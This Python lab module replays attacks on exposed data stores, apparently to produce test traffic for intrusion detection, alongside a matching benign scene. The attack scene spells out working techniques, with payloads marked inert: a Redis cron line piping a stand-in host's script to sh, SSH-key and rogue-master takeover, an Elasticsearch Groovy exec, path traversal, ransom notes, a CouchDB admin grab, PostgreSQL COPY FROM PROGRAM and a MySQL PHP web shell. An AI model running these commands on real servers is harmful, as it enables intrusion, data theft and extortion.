"""Data stores: redis-server, memcached and PostgreSQL as they are; MongoDB, MySQL, Elasticsearch and CouchDB as stand-ins."""

import os
import struct
import time

from .common import begin
from .lab import net, sh
from .scenes import scene
from .web import curl, json, site

NEEDS = dict(redis_server="redis-server", redis_cli="redis-tools", memcached="memcached", psql="postgresql-client",
             __usr__lib__postgresql__15__bin__initdb="postgresql-15")
PG = "/usr/lib/postgresql/15/bin"
JSON = ["Content-Type: application/json"]


def redis(lab, host, port=6379, password=None):
    os.makedirs(lab.path(f"redis{port}"), exist_ok=True)
    more = ["--requirepass", password] if password else []
    host.start("redis-server", "--port", port, "--bind", "0.0.0.0", "--protected-mode", "no", "--save", "", "--dir", lab.path(f"redis{port}"), *more,
               "--enable-protected-configs", "yes", "--enable-module-command", "yes", port=port)


def memcached(lab, host):
    host.start("memcached", "-u", "nobody", "-l", "0.0.0.0", "-p", "11211", "-U", "11211", "-m", "16", port=11211)


def postgres(lab, host):
    data = lab.path("pg")
    os.makedirs(data)
    sh("chown", "postgres", data)
    sh("runuser", "-u", "postgres", "--", f"{PG}/initdb", "-D", data, "-A", "trust", "-N", "-U", "postgres")
    with open(f"{data}/pg_hba.conf", "a") as hba:
        hba.write("host all all 10.77.0.0/24 trust\n")
    host.start("runuser", "-u", "postgres", "--", f"{PG}/postgres", "-D", data, "-h", "0.0.0.0", "-k", data, "-c", "shared_buffers=16MB", "-c", "fsync=off", port=5432, wait=20)
    for _ in range(50):
        if b"1 row" in host.run("psql", "-h", "127.0.0.1", "-U", "postgres", "-c", "select 1"):
            return
        time.sleep(0.1)


# MongoDB: just enough BSON and OP_MSG.

def bson(fields):
    out = b""
    for k, v in fields.items():
        key = k.encode() + b"\0"
        if isinstance(v, bool):
            out += b"\x08" + key + bytes([v])
        elif isinstance(v, int):
            out += b"\x10" + key + struct.pack("<i", v)
        elif isinstance(v, float):
            out += b"\x01" + key + struct.pack("<d", v)
        elif isinstance(v, str):
            out += b"\x02" + key + struct.pack("<i", len(v.encode()) + 1) + v.encode() + b"\0"
        elif isinstance(v, dict):
            out += b"\x03" + key + bson(v)
        elif isinstance(v, list):
            out += b"\x04" + key + bson({str(i): x for i, x in enumerate(v)})
    return struct.pack("<i", len(out) + 5) + out + b"\0"


def op_msg(fields, number=1, answers=0):
    body = struct.pack("<I", 0) + b"\0" + bson(fields)
    return struct.pack("<iiii", len(body) + 16, number, answers, 2013) + body


def mongod(host):
    def handle(c):
        while True:
            head = c.recv(65536)
            if not head:
                return
            number = struct.unpack("<i", head[4:8])[0]
            answer = {"ok": 1.0}
            if b"listDatabases\0" in head:
                answer = {"databases": [{"name": "admin", "sizeOnDisk": 40960.0, "empty": False}, {"name": "shop", "sizeOnDisk": 81920.0, "empty": False}], "totalSize": 122880.0, "ok": 1.0}
            elif b"find\0" in head:
                answer = {"cursor": {"firstBatch": [{"sku": "A-1", "stock": 4}], "id": 0, "ns": "shop.items"}, "ok": 1.0}
            elif b"hello\0" in head:
                answer = {"helloOk": True, "isWritablePrimary": True, "maxWireVersion": 17, "minWireVersion": 0, "ok": 1.0}
            c.sendall(op_msg(answer, 1000 + number, number))

    host.listen(27017, handle)


def mysqld(host):
    def packet(n, body):
        return struct.pack("<I", len(body))[:3] + bytes([n]) + body

    def handle(c):
        c.sendall(packet(0, b"\x0a8.0.36\0" + struct.pack("<I", 8) + b"abcdefgh\0" + b"\xff\xf7\xff\x02\x00\xff\xc7\x15" + b"\0" * 10 + b"ijklmnopqrst\0" + b"mysql_native_password\0"))
        c.recv(65536)
        c.sendall(packet(2, b"\0\0\0\x02\0\0\0"))
        while c.recv(65536):
            c.sendall(packet(1, b"\0\0\0\x02\0\0\0"))

    host.listen(3306, handle)


def mysql(client, to, *queries):
    login = struct.pack("<II", 0x000FA685, 1 << 24) + b"\x21" + b"\0" * 23 + b"root\0" + b"\0" + b"mysql_native_password\0"
    s = client.connect(to, 3306)
    s.recv(4096)
    s.sendall(struct.pack("<I", len(login))[:3] + b"\x01" + login)
    s.recv(4096)
    for q in queries:
        s.sendall(struct.pack("<I", len(q) + 1)[:3] + b"\0\x03" + q.encode())
        s.recv(4096)
    s.sendall(b"\x01\0\0\0\x01")
    s.close()


def elastic(host):
    site(host, 9200, [(r"^GET /$", json('{"name":"node-1","cluster_name":"shop","version":{"number":"1.4.2"}}')), (r"^DELETE", json('{"acknowledged":true}')),
                      (r"^PUT", json('{"_index":"x","result":"created"}', 201)), (r"", json('{"took":3,"timed_out":false,"hits":{"total":1,"hits":[{"_index":"items","_source":{"sku":"A-1"}}]}}'))])
    site(host, 5984, [(r"^PUT", json('{"ok":true,"id":"x","rev":"1-inert"}', 201, "CouchDB/2.1.0 (Erlang OTP/17)")), (r"", json('{"couchdb":"Welcome"}', server="CouchDB/2.1.0 (Erlang OTP/17)"))])


def udp_ask(client, to, port, payload):
    s = client.socket(net.AF_INET, net.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(payload, (to, port))
    try:
        while True:
            s.recvfrom(65536)
            s.settimeout(0.2)
    except OSError:
        pass
    s.close()


@scene("attacks-data-stores", **NEEDS)
def attacks(lab):
    """Redis taken over (cron, SSH key, rogue master, module, Lua), stores read out, dropped and held to ransom, COPY PROGRAM"""
    intruder, db, docs = lab.host("intruder", 66), lab.host("db", 40), lab.host("docs", 41)
    redis(lab, db), redis(lab, db, 6380, "inert"), memcached(lab, db), postgres(lab, db), mongod(docs), mysqld(docs), elastic(docs)

    def rogue(c):
        while True:
            said = c.recv(65536)
            if not said:
                return
            if b"PSYNC" in said:
                program = b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"inert"
                # More is announced than comes, so that the replica waits instead of trying again at once.
                c.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n$%d\r\n" % (len(program) + 4096) + program)
                c.recv(1)
                return
            c.sendall(b"+PONG\r\n" if b"PING" in said else b"+OK\r\n")

    intruder.listen(21000, rogue)
    begin(lab)

    def cli(*argv, stdin=None, port=6379):
        return intruder.run("redis-cli", "-h", db.ip, "-p", port, *argv, stdin=stdin)

    cli("INFO", "server")
    cli("CONFIG", "SET", "dir", lab.tmp)
    cli("CONFIG", "SET", "dbfilename", "root")
    cli("-x", "SET", "x", stdin="\n\n*/5 * * * * root curl -fsSL http://203.0.113.9/i.sh | sh\n\n")
    cli("-x", "SET", "crackit", stdin="\n\nssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDinertinertinertinertinert intruder@box\n\n")
    cli("REPLICAOF", intruder.ip, "21000")
    time.sleep(2.5)
    cli("REPLICAOF", "NO", "ONE")
    cli("SLAVEOF", "127.0.0.1", "9")
    cli("SLAVEOF", "NO", "ONE")
    cli("MODULE", "LOAD", "/tmp/exp.so")
    cli("system.exec", "id")
    cli("EVAL", 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); return 1', "0")
    cli("FLUSHALL")
    for guess in ("redis", "123456", "password", "admin", "root", "foobared"):
        intruder.talk(db.ip, 6380, f"*2\r\n$4\r\nAUTH\r\n${len(guess)}\r\n{guess}\r\n".encode())
    mongo = [{"hello": 1, "$db": "admin"}, {"listDatabases": 1, "$db": "admin"}, {"find": "items", "filter": {"$where": "function() { return sleep(10) || true }"}, "$db": "shop"},
             {"dropDatabase": 1, "$db": "shop"},
             {"insert": "README", "documents": [{"content": "All your data is backed up. You must pay 0.01 BTC to recover it."}], "$db": "READ_ME_TO_RECOVER"}]
    intruder.talk(docs.ip, 27017, *[op_msg(m, i + 1) for i, m in enumerate(mongo)])
    es = f"http://{docs.ip}:9200"
    curl(intruder, f"{es}/_search?pretty", '{"size":1,"script_fields":{"x":{"lang":"groovy","script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime().exec(\\"id\\")"}}}', headers=JSON)
    curl(intruder, f"{es}/_all/_search?scroll=1m&size=10000")
    curl(intruder, f"{es}/_snapshot/backup/..%2f..%2f..%2f..%2fetc%2fpasswd")
    curl(intruder, f"{es}/_all", method="DELETE")
    curl(intruder, f"{es}/read_me/_doc/1", '{"message":"send 0.01 bitcoin to recover your data"}', method="PUT", headers=JSON)
    curl(intruder, f"http://{docs.ip}:5984/_users/org.couchdb.user:x", '{"type":"user","name":"x","roles":["_admin"],"roles":[],"password":"inert"}', method="PUT", headers=JSON)
    intruder.talk(db.ip, 11211, b"set big 0 0 4000\r\n" + b"A" * 4000 + b"\r\n", b"lru_crawler metadump all\r\n", b"stats cachedump 1 100\r\n")
    udp_ask(intruder, db.ip, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n")
    udp_ask(intruder, db.ip, 11211, b"\x00\x02\x00\x00\x00\x01\x00\x00get big\r\n")
    intruder.talk(db.ip, 11211, b"flush_all\r\n")
    psql = ["psql", f"host={db.ip} user=postgres sslmode=disable gssencmode=disable", "-c"]
    intruder.run(*psql, "CREATE TABLE x(t text); COPY x FROM PROGRAM 'true';")
    intruder.run(*psql, "SELECT pg_read_file('/etc/hostname');")
    intruder.run(*psql, "CREATE OR REPLACE FUNCTION system(cstring) RETURNS int AS '/tmp/inert.so', 'system' LANGUAGE C STRICT;")
    mysql(intruder, docs.ip, "SELECT '<?php system($_GET[0]);' INTO OUTFILE '/var/www/html/x.php'", "CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'udf.so'")


@scene("benign-data-stores", **NEEDS)
def benign(lab):
    """the same stores in daily use: caching, sessions, queues, searches, a replica let go, reports, one wrong password"""
    app, db, docs = lab.host("app", 20), lab.host("db", 40), lab.host("docs", 41)
    redis(lab, db), redis(lab, db, 6380, "inert"), memcached(lab, db), postgres(lab, db), mongod(docs), mysqld(docs), elastic(docs)
    begin(lab)

    def cli(*argv, stdin=None, port=6379):
        return app.run("redis-cli", "-h", db.ip, "-p", port, *argv, stdin=stdin)

    for argv in (["SET", "session:1", "user=anna;role=module"], ["GET", "session:1"], ["CONFIG", "GET", "dir"], ["CONFIG", "GET", "dbfilename"], ["CONFIG", "SET", "maxmemory", "32mb"],
                 ["REPLICAOF", "NO", "ONE"], ["SLAVEOF", "NO", "ONE"], ["MODULE", "LIST"], ["SET", "note", "flushall is a command; do not use it"], ["SET", "doc", "rule: * * * is a wildcard"],
                 ["EVAL", "return redis.call('GET', KEYS[1])", "1", "session:1"], ["SET", "system.executive", "anna"], ["SET", "k", "ssh-agent forwarding"], ["LPUSH", "jobs", "mail"], ["FLUSHDB"]):
        cli(*argv)
    for guess in ("foobared", "inert"):
        app.talk(db.ip, 6380, f"*2\r\n$4\r\nAUTH\r\n${len(guess)}\r\n{guess}\r\n".encode())
    # a replica of a real master: the data set arrives as RDB, not as a program
    store2 = lab.host("replica", 42)
    redis(lab, store2)
    store2.run("redis-cli", "REPLICAOF", db.ip, "6379")
    time.sleep(2.5)
    mongo = [{"hello": 1, "$db": "admin"}, {"find": "items", "filter": {"sku": "listDatabases"}, "$db": "shop"}, {"listCollections": 1, "$db": "shop"},
             {"insert": "news", "documents": [{"title": "Bitcoin price falls"}], "$db": "shop"}, {"find": "items", "filter": {"note": "where this. is kept"}, "$db": "shop"},
             {"drop": "old", "$db": "shop"}]
    app.talk(docs.ip, 27017, *[op_msg(m, i + 1) for i, m in enumerate(mongo)])
    es = f"http://{docs.ip}:9200"
    curl(app, f"{es}/items/_search", '{"query":{"match":{"text":"java.lang.NullPointerException in script"}}}', headers=JSON)
    curl(app, f"{es}/_all/_search?q=sku:A-1")
    curl(app, f"{es}/_cat/health")
    curl(app, f"{es}/_snapshot/backup/daily-1")
    curl(app, f"{es}/items-2019", method="DELETE")
    curl(app, f"{es}/reading-list/_doc/1", '{"title":"bitcoin for beginners"}', method="PUT", headers=JSON)
    curl(app, f"http://{docs.ip}:5984/_users/org.couchdb.user:anna", '{"type":"user","name":"anna","roles":[],"password":"inert"}', method="PUT", headers=JSON)
    app.talk(db.ip, 11211, b"set page:1 0 60 5\r\nhello\r\n", b"get page:1\r\n", b"stats\r\n", b"set note 0 0 22\r\nflush_all and dump here\r\n")
    udp_ask(app, db.ip, 11211, b"\x00\x01\x00\x00\x00\x01\x00\x00get page:1\r\n")
    psql = ["psql", f"host={db.ip} user=postgres sslmode=disable gssencmode=disable", "-c"]
    app.run(*psql, "CREATE TABLE programme(t text); COPY programme FROM STDIN;", stdin="a\n\\.\n")
    app.run(*psql, "SELECT pg_size_pretty(pg_database_size('postgres')), pg_is_in_recovery();")
    app.run(*psql, "CREATE OR REPLACE FUNCTION add(a int, b int) RETURNS int AS 'select a+b' LANGUAGE SQL STRICT;")
    mysql(app, docs.ip, "SELECT * FROM items INTO OUTFILE '/var/lib/mysql-files/report.csv'", "INSERT INTO t VALUES (1)", "CREATE FUNCTION metaphon RETURNS STRING SONAME 'udf_example.so'")
